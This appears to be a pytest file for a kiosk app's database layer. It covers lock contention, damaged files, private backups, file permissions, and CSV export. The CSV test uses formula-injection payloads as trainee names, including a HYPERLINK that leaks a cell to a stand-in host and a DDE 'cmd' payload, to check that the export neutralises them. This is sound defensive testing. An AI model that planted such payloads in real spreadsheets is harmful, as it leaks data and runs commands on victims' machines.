"""The store under faults: another program holding the write lock, a damaged file, backups, private files, CSV.

A locked SQLite database is held by a real second process for 60 s; the
store gives up on a write after its own short wait (the tests never wait the
60 s), reads do not wait at all, and a take that could not be saved is kept
on disk and saved later.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import subprocess
import sys
import time
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from store_fixtures import postgres_fixture, url_fixture  # noqa: F401 - fixtures: each test on both databases
from store_workers import record

from kiosk.store import (
    Store,
    StoreBusyError,
    StoreDamagedError,
    StoreError,
    backup_database,
    default_url,
    save_kept,
    save_or_keep,
)
from kiosk.store.pending import keep_take, kept_takes

WORKERS = Path(__file__).resolve().parent / "store_workers.py"
SQL_WORDS = ("SELECT", "INSERT", "UPDATE", "BEGIN", "[SQL", "sqlalche.me", "Traceback", "OperationalError")


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@contextmanager
def write_lock_held(database: Path, tmp_path: Path, seconds: float = 60):
    """A second process holding the database's write lock (BEGIN IMMEDIATE) until the block ends."""
    ready = tmp_path / "holding"
    holder = subprocess.Popen([sys.executable, str(WORKERS), "hold", str(database), str(ready), str(seconds)])
    try:
        deadline = time.monotonic() + 60
        while not ready.exists():
            assert holder.poll() is None and time.monotonic() < deadline
            time.sleep(0.05)
        yield holder
    finally:
        holder.kill()
        holder.wait()


def test_reads_never_wait_for_a_writer_and_a_busy_write_says_so_plainly(tmp_path) -> None:
    database = tmp_path / "kiosk.db"
    with Store(f"sqlite:///{database}") as store:
        store.save_take(record("before", "Ana", 1))
        store.create_workshop("Monday", ["Ana"])
    # A kiosk started while the lock is held opens, checks and reads the database.
    with write_lock_held(database, tmp_path) as holder, Store(f"sqlite:///{database}", busy_timeout_s=1) as store:
        assert [t.uid for t in store.takes()] == ["before"]
        assert store.find_trainee("ana").name == "Ana" and len(store.workshops()) == 1
        assert store.trainer_pin_wait().wait_s == 0 and not store.has_trainer_pin()
        assert holder.poll() is None  # all of that while the other process still held the lock
        with pytest.raises(StoreBusyError) as busy:
            store.set_current_workshop(store.workshops()[0].id)
        message = str(busy.value)
        assert "busy" in message and "try again" in message
        assert not any(word in message for word in SQL_WORDS)
        assert holder.poll() is None


def test_a_take_that_cannot_be_saved_while_the_lock_is_held_is_kept_and_saved_later(tmp_path) -> None:
    database = tmp_path / "kiosk.db"
    pending = tmp_path / "pending"
    with Store(f"sqlite:///{database}") as store:
        store.save_take(record("before", "Ana", 1))
    with Store(f"sqlite:///{database}", busy_timeout_s=1) as store:
        with write_lock_held(database, tmp_path) as holder:
            outcome = save_or_keep(store, record("during", "Bo", 2), folder=pending, pauses_s=(0.1, 0.2))
            assert holder.poll() is None
        assert outcome.saved is None and outcome.kept == pending / "during.json"
        assert "busy" in outcome.problem and not any(word in outcome.problem for word in SQL_WORDS)
        assert mode(pending) == 0o700 and mode(outcome.kept) == 0o600
        assert [t.uid for t in store.takes()] == ["before"]
        # The next take saved brings the kept one in too, and the file goes.
        later = save_or_keep(store, record("after", "Cleo", 3), folder=pending)
        assert later.saved is not None and kept_takes(pending) == []
        kept_back = next(t for t in store.takes() if t.uid == "during")
        assert kept_back.trainee == "Bo" and kept_back.cues == record("during", "Bo", 2).cues


def test_kept_takes_are_saved_once_even_if_two_kiosks_save_them(url, tmp_path) -> None:
    pending = tmp_path / "pending"
    keep_take(record("k1", "Ana", 1), pending)
    keep_take(replace(record("k2", "Bo", 2), workshop_id=999), pending)  # its workshop is gone by now
    (pending / "not-a-take.json").write_text("{ half written")
    with Store(url) as one, Store(url) as two:
        assert save_kept(one, pending) == 2
        assert save_kept(two, pending) == 0
        assert sorted((t.uid, t.workshop_id) for t in one.takes()) == [("k1", None), ("k2", None)]
    assert [p.name for p in pending.iterdir()] == ["not-a-take.json"]  # left for a person to look at


def test_a_store_that_cannot_be_opened_keeps_the_take(tmp_path) -> None:
    outcome = save_or_keep(None, record("t1", "Ana", 1), problem="The database is damaged.", folder=tmp_path / "p")
    assert outcome.kept is not None and outcome.problem == "The database is damaged."


def _damaged_message_checks(err: StoreDamagedError, database: Path) -> None:
    message = str(err)
    assert str(database) in message and "backup" in message and err.command in message
    assert err.command.startswith("mkdir -p ") and f"mv {database}*" in err.command
    assert not any(word in message for word in SQL_WORDS)


def test_a_file_of_garbage_is_refused_at_open_with_what_to_do(tmp_path) -> None:
    database = tmp_path / "kiosk.db"
    database.write_bytes(os.urandom(64 * 1024))
    with pytest.raises(StoreDamagedError) as damaged:
        Store(f"sqlite:///{database}")
    assert "not a database" in str(damaged.value)
    _damaged_message_checks(damaged.value, database)
    # The command the message gives really moves it aside, and a new database starts.
    subprocess.run(["sh", "-c", damaged.value.command], check=True)
    assert not database.exists() and (tmp_path / "damaged" / "kiosk.db").exists()
    with Store(f"sqlite:///{database}") as store:
        assert store.takes() == []


def test_a_database_with_damaged_pages_fails_the_quick_check_at_open(tmp_path) -> None:
    database = tmp_path / "kiosk.db"
    with Store(f"sqlite:///{database}") as store:
        for i in range(60):
            store.save_take(record(f"t{i}", f"Trainee {i}", i))
    size = database.stat().st_size
    with database.open("r+b") as raw:  # the header and first page intact, garbage in the middle
        raw.seek(4096 * 2)
        raw.write(os.urandom(size // 2))
    with pytest.raises(StoreDamagedError) as damaged:
        Store(f"sqlite:///{database}")
    _damaged_message_checks(damaged.value, database)
    with pytest.raises(StoreDamagedError):
        backup_database(f"sqlite:///{database}", tmp_path / "copy.db")  # no backup of a damaged file
    assert not (tmp_path / "copy.db").exists()


def test_a_backup_is_a_whole_private_copy_made_while_another_kiosk_writes(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("KIOSK_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("KIOSK_DB_URL", raising=False)
    url = default_url()
    with Store(url) as store:
        store.save_take(record("first", "Ana", 1))
    writer = subprocess.Popen([sys.executable, str(WORKERS), "write", url, "Bo", "150", "0"])
    try:
        copies = []
        while writer.poll() is None and len(copies) < 3:
            copies.append(backup_database(url))
            time.sleep(0.2)
    finally:
        assert writer.wait(timeout=240) == 0
    assert copies, "the writer finished before a backup was made"
    backups = tmp_path / "data" / "backups"
    assert mode(backups) == 0o700
    for copy in copies:
        assert copy.parent == backups and mode(copy) == 0o600
        with sqlite3.connect(copy) as raw:
            assert raw.execute("PRAGMA integrity_check").fetchone() == ("ok",)
            takes = raw.execute("SELECT count(*) FROM takes").fetchone()[0]
            cues = raw.execute("SELECT count(*) FROM cue_results").fetchone()[0]
        assert 1 <= takes <= 151 and cues == 3 * takes  # whole takes only
    assert not [p for p in backups.iterdir() if p.name.endswith(".partial")]
    mine = backup_database(url, tmp_path / "mine.db")
    assert mine == tmp_path / "mine.db" and mode(mine) == 0o600


def test_a_database_server_is_backed_up_with_pg_dump_and_the_advice_has_no_password() -> None:
    with pytest.raises(StoreError) as advice:
        backup_database("postgresql+psycopg://kiosk:s3cret@db.example:5433/kiosk")
    assert "pg_dump --format=custom" in str(advice.value) and "postgresql://kiosk@db.example:5433/kiosk" in str(
        advice.value
    )
    assert "s3cret" not in str(advice.value)


def kiosk(*args: str) -> subprocess.CompletedProcess[str]:
    """The command line, as a user runs it (with this process's environment and umask)."""
    return subprocess.run(
        [sys.executable, "-m", "kiosk.cli", *args], capture_output=True, text=True, timeout=120, check=False
    )


def test_every_file_the_store_and_its_commands_create_is_private(tmp_path, monkeypatch) -> None:
    data = tmp_path / "data"
    monkeypatch.setenv("KIOSK_DATA_DIR", str(data))
    monkeypatch.delenv("KIOSK_DB_URL", raising=False)
    old_umask = os.umask(0o022)  # what most desktops have: new files 0644, folders 0755
    try:
        with Store() as store:
            store.save_take(record("t1", "Ana", 1))
            database = data / "kiosk.db"
            made = {p.name: mode(p) for p in data.iterdir() if p.is_file()}
            assert made == {"kiosk.db": 0o600, "kiosk.db-wal": 0o600, "kiosk.db-shm": 0o600}
            assert mode(data) == 0o700
            kept = keep_take(record("t2", "Bo", 2))
            assert mode(kept.parent) == 0o700 and mode(kept) == 0o600
        assert kiosk("backup").returncode == 0
        (copy,) = (data / "backups").iterdir()
        assert mode(copy.parent) == 0o700 and mode(copy) == 0o600
        exports = tmp_path / "exports"
        exports.mkdir()
        assert kiosk("export", str(exports / "takes.csv")).returncode == 0
        assert kiosk("export", str(exports / "all.json")).returncode == 0
        assert {p.name: mode(p) for p in exports.iterdir()} == {"takes.csv": 0o600, "all.json": 0o600}
        assert json.loads((exports / "all.json").read_text())["schema"] == "kiosk/export"
        # A database left world-readable by an older kiosk is made private when opened.
        database.chmod(0o644)
        data.chmod(0o755)
        with Store():
            assert mode(database) == 0o600 and mode(data) == 0o700
    finally:
        os.umask(old_umask)


def test_the_csv_export_shows_formulas_as_text_and_keeps_numbers_as_numbers(url) -> None:
    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    with Store(url) as store:
        for i, name in enumerate(names):
            store.save_take(record(f"t{i}", name, 10 + i))
        store.save_take(replace(record("tab", None, 30), scenario_id="\t=1+1"))
        store.save_take(replace(record("cr", None, 31), scenario_id="\r=1+1"))
        rows = list(csv.DictReader(io.StringIO(store.export_csv())))
    by_uid = {row["take"]: row for row in rows}
    for i, name in enumerate(names):
        assert by_uid[f"t{i}"]["trainee"] == "'" + name
        assert by_uid[f"t{i}"]["overall"] == str(60 + i) and by_uid[f"t{i}"]["pace"] == str(10 + i)
    assert by_uid["tab"]["scenario"] == "'\t=1+1" and by_uid["cr"]["scenario"] == "'\r=1+1"
    assert by_uid["t0"]["duration_s"] == "4.00"
    assert all(not row[column].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for column in row)
